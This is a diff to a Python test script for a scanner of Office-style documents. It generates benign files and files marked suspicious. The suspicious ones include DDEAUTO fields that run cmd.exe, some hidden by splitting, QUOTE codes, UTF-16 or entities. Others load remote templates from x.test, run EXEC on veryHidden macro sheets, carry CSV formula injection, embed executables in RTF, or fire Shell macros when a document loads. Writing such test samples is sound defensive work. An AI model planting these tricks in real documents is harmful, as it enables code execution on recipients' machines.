@@ -6,6 +6,7 @@ and the macro trap together.
 usage: macros.py MACRO-SCAN SIGNATURES
 """
 import pathlib
+import struct
 import subprocess
 import sys
 import tempfile
@@ -46,9 +47,169 @@ def vba():
            "suspicious", "script-host")
 
 
+def run(*codes):
+    """Runs of a field code, one w:instrText each."""
+    mark = '<w:r><w:fldChar w:fldCharType="%s"/></w:r>'
+    body = "".join(code if code.startswith("<") else
+                   f'<w:r><w:instrText xml:space="preserve">{code}</w:instrText></w:r>'
+                   for code in codes)
+    return mark % "begin" + body + mark % "separate" + "<w:t>shown</w:t>" + mark % "end"
+
+
+def docx(body="", rels="", more=None):
+    w = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
+    package = "http://schemas.openxmlformats.org/package/2006/relationships"
+    return office.package({
+        "[Content_Types].xml": office.CONTENT_TYPES,
+        "word/document.xml": f'<?xml version="1.0"?><w:document xmlns:w="{w}"><w:body><w:p>'
+                             f"{body}</w:p></w:body></w:document>",
+        "word/_rels/settings.xml.rels": f'<Relationships xmlns="{package}">{rels}</Relationships>',
+        **(more or {})})
+
+
+def relationship(kind, target, mode="External"):
+    office_kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/" + kind
+    return f'<Relationship Id="r1" Type="{office_kind}" Target="{target}" TargetMode="{mode}"/>'
+
+
+def fields():
+    command = r'c:\\windows\\system32\\cmd.exe "/k calc"'
+    sample("dde.docx", docx(run(" DDEAUTO " + command)), "suspicious", "dde-runs-program")
+    sample("split.docx", docx(run("DD", "EAU", "TO c:\\win", "dows\\cm", "d.e", "xe")),
+           "suspicious", "dde-runs-program")
+    sample("quote.docx", docx(run("DDE", run("QUOTE 65 85 84 79"), " ", run("QUOTE 99 109 100"),
+                                  ".exe")), "suspicious", "dde-runs-program")
+    sample("set.docx", docx(run("SET c &quot;powershell&quot;") + run("DDEAUTO ", run("REF c"))),
+           "suspicious", "dde-runs-program")
+    sample("simple.docx", docx('<w:fldSimple w:instr="DDE mshta http://x.test/a"/>'), "suspicious",
+           "dde-runs-program")
+    utf16 = docx(more={"word/footnotes.xml": (
+        '<?xml version="1.0" encoding="UTF-16"?><w:footnotes xmlns:w="w">' +
+        run("DDEAUTO cmd") + "</w:footnotes>").encode("utf-16")})
+    sample("utf16.docx", utf16, "suspicious", "dde-runs-program")
+    sample("entities.docx", docx(run("&#68;D&#x45; cm&#100;")), "suspicious", "dde-runs-program")
+    # What honest documents have: page numbers, a table of contents, a table from a workbook.
+    sample("fields.docx", docx(run(" PAGE ") + run(' TOC \\o "1-3" ') +
+                               run(' HYPERLINK "https://example.com/cmd.exe" ')))
+    sample("excel-link.docx", docx(run(' DDEAUTO Excel.Sheet.8 "C:\\data\\book.xls" "R1C1" ')))
+    sample("talk.docx", docx("<w:t>DDEAUTO cmd.exe is an old trick</w:t>"))
+
+
+def links():
+    sample("template.docx", docx(rels=relationship("attachedTemplate", "https://x.test/a.dotm")),
+           "suspicious", "template-from-web")
+    sample("template-case.docx", docx(rels=relationship("attachedTemplate", "HTTP://x.test/a", "external")),
+           "suspicious", "template-from-web")
+    sample("object.docx", docx(rels=relationship("oleObject", "mhtml:https://x.test/a!x-usc:b")),
+           "suspicious", "object-from-web")
+    sample("frame.docx", docx(rels=relationship("frame", "https://x.test/f")), "suspicious",
+           "frame-from-web")
+    sample("normal.docx", docx(rels=relationship("attachedTemplate", "file:///C:\\Users\\a\\Normal.dotm")))
+    sample("hyper.docx", docx(rels=relationship("hyperlink", "https://x.test/a.dotm")))
+    sample("picture.docx", docx(rels=relationship("image", "https://x.test/a.png")))
+    sample("inside.docx", docx(rels=relationship("attachedTemplate", "http://x.test/", "Internal")))
+
+
+def xlsm(cells, names="", state="visible", extra=None, kind="macrosheet"):
+    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
+    rows = "".join(f'<c r="{ref}"{kind_of}>{inner}</c>' for ref, kind_of, inner in cells)
+    return office.package({
+        "[Content_Types].xml": office.CONTENT_TYPES,
+        "xl/workbook.xml": f'<workbook xmlns="{main}"><sheets><sheet name="a" state="{state}"/>'
+                           f"</sheets><definedNames>{names}</definedNames></workbook>",
+        f"xl/{kind}s/sheet1.xml": f'<xm:{kind} xmlns:xm="http://schemas.microsoft.com/office/excel/'
+                                  f'2006/main" xmlns="{main}"><sheetData><row r="1">{rows}</row>'
+                                  f"</sheetData></xm:{kind}>",
+        **(extra or {})})
+
+
+AUTO = '<definedName name="_xlnm.Auto_Open">a!$A$1</definedName>'
+
+
+def formulas():
+    sample("exec.xlsm", xlsm([("A1", "", "<f>EXEC(\"calc\")</f><v>0</v>")], AUTO), "suspicious",
+           "exec-formula", "auto-name")
+    built = [("A1", "", "<f>FORMULA.FILL(B1&amp;CHAR(88)&amp;B2,C1)</f>"),
+             ("B1", ' t="s"', "<v>1</v>"), ("B2", ' t="inlineStr"', "<is><t>EC(\"cmd\")</t></is>")]
+    strings = "<sst><si><t>no</t></si><si><r><t>=</t></r><r><t>E</t></r></si></sst>"
+    sample("built.xlsm", xlsm(built, AUTO, "veryHidden", {"xl/sharedStrings.xml": strings}),
+           "suspicious", "exec-formula", "very-hidden-macro-sheet")
+    sample("hidden.xlsm", xlsm(built, AUTO, "hidden", {"xl/sharedStrings.xml": strings}),
+           "suspicious", "exec-formula", "hidden-macro-sheet")
+    # A sheet of old macros that asks and selects; a plain workbook with names and hidden sheets.
+    sample("old-macros.xlsm", xlsm([("A1", "", "<f>SELECT(!$A$1)</f>"), ("A2", "", "<f>RETURN()</f>")]))
+    sample("plain.xlsx", xlsm([("A1", "", "<f>SUM(B1:B9)</f>")],
+                              '<definedName name="_xlnm.Print_Area">a!$A$1</definedName>',
+                              "veryHidden", kind="worksheet"))
+    dde = '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
+    sample("dde.xlsx", xlsm([], "", extra={"xl/externalLinks/externalLink1.xml": dde}), "suspicious",
+           "dde-runs-program")
+    sample("auto.slk", b'ID;P\r\nO;E\r\nNN;NAuto_open;ER101C1;KOut;F\r\n'
+                       b'C;X1;Y101;K0;EEXEC("calc.exe")\r\nC;X1;Y102;K0;EHALT()\r\nE\r\n',
+           "suspicious", "exec-formula", "auto-name")
+    sample("split.slk", b'ID;P\r\nO;E\r\nNN;NAuto_open;ER1C1\r\nC;X2;Y1;K"powersh"\r\n'
+                        b'C;X1;Y1;EEXEC(R1C2&"ell")\r\nE\r\n', "suspicious", "interpreter")
+    sample("plain.slk", b'ID;PWXL;N;E\r\nC;Y1;X1;K"total"\r\nC;X2;K12;ESUM(R[1]C:R[9]C)\r\nE\r\n')
+    sample("dde.csv", b"name,phone\r\nx,=cmd|'/c calc'!A0\r\n", "suspicious", "dde-runs-program")
+    sample("sum.csv", b"a,\"=SUM(1,cmd|'/c calc'!A0)\"\r\n", "suspicious", "dde-runs-program")
+    sample("excel.csv", b'a;"=MSEXCEL|\'\\..\\..\\cmd.exe /c calc\'!A1"\r\n', "suspicious",
+           "dde-runs-program")
+    sample("bars.csv", b"name|phone|=sum\r\n=a|b\r\nx,-1|2,see cmd|'/c'!A0\r\n")
+    sample("sums.csv", b"a,=SUM(A1:A2),@me!\r\n")
+
+
+def rtf_object(name, data, extra="", noise=""):
+    class_name = name.encode() + b"\0"
+    head = struct.pack("<III", 0x501, 2, len(class_name)) + class_name
+    head += struct.pack("<III", 0, 0, len(data)) + data
+    digits = head.hex()
+    if noise:
+        digits = noise.join(digits[i:i + 8] for i in range(0, len(digits), 8))
+    return (r"{\rtf1\ansi text {\object\objemb%s{\*\objclass %s}{\*\objdata %s}{\result{x}}}}"
+            % (extra, name, digits)).encode()
+
+
+def rtf():
+    word = office.compound({"WordDocument": b"x" * 100})
+    sample("object.rtf", rtf_object("Word.Document.8", word))
+    sample("update.rtf", rtf_object("OLE2Link", word, r"\objupdate"), "suspicious", "linked-object")
+    sample("noise.rtf", rtf_object("Equation.3", b"x" * 64, noise=r"{\*\junk 0}"), "suspicious",
+           "obfuscated-object", "equation-editor")
+    sample("lines.rtf", rtf_object("Equation.3", b"x" * 64, noise="\n"))
+    package = struct.pack("<H", 2) + b"invoice\0C:\\a\\invoice.exe\0" + b"MZ"
+    sample("package.rtf", rtf_object("Package", package), "suspicious", "program-in-object")
+    field = rb"{\rtf1{\field{\*\fldinst {\b DDE}{\i AUTO} {cm\'64} /k}{\fldrslt x}}}"
+    sample("dde.rtf", field, "suspicious", "dde-runs-program")
+    sample("unicode.rtf", rb"{\rt{\*\fldinst D\u68?E c\u109?d", "suspicious", "dde-runs-program")
+    sample("template.rtf", rb"{\rtf1{\*\template http\'3a//x.test/a.dotm}text}", "suspicious",
+           "template-from-web")
+    sample("plain.rtf", rb"{\rtf1\ansi{\fonttbl{\f0 Arial;}}{\field{\*\fldinst PAGE}{\fldrslt 1}}"
+                        rb"{\*\template C:\\Normal.dot}DDEAUTO cmd.exe\par}")
+
+
+def open_document():
+    def odt(event="", code="", name="content.xml"):
+        content = ('<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:'
+                   'office:1.0" xmlns:script="s" xmlns:xlink="x"><office:scripts>'
+                   f"<office:event-listeners>{event}</office:event-listeners></office:scripts>"
+                   "</office:document-content>")
+        return office.package({
+            "mimetype": "application/vnd.oasis.opendocument.text", name: content,
+            "Basic/Standard/Module1.xml": '<script:module xmlns:script="s" script:language='
+                                          f'"StarBasic">{code}</script:module>'})
+
+    event = ('<script:event-listener script:event-name="%s" xlink:href="vnd.sun.star.script:'
+             'Standard.Module1.Main?language=Basic&amp;location=document"/>')
+    run_it = "Sub Main\nShell(&quot;cal&quot; &amp; &quot;c&quot;)\nEnd Sub\n"
+    sample("bad.odt", odt(event % "dom:load", run_it), "suspicious", "event-script", "shell")
+    sample("button.odt", odt(event % "dom:click", run_it))
+    sample("good.odt", odt(event % "dom:load", "Sub Main\nThisComponent.store()\nEnd Sub\n"))
+
+
 def main():
     program, signatures = sys.argv[1:]
-    vba()
+    for make in (vba, fields, links, formulas, rtf, open_document):
+        make()
     failed = 0
     with tempfile.TemporaryDirectory(prefix="storehook-macros-") as folder:
         for name, data, _, _ in SAMPLES:
